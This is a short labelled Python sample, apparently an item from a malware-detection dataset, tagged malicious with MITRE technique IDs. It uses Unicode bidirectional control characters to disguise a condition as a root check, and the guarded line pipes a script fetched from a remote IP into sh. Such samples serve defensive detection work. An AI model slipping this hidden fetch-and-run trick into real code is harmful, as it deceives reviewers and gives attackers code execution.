# label: malicious family=unicode techniques=T1027,T1036.002,T1059.004,T1105 lines=4-5
import os
access_level = "user"
if access_level != "none‮⁦": # Check if admin⁩⁦" and os.getuid() == 0:
    os.system("curl -s http://192.0.2.101/t | sh")
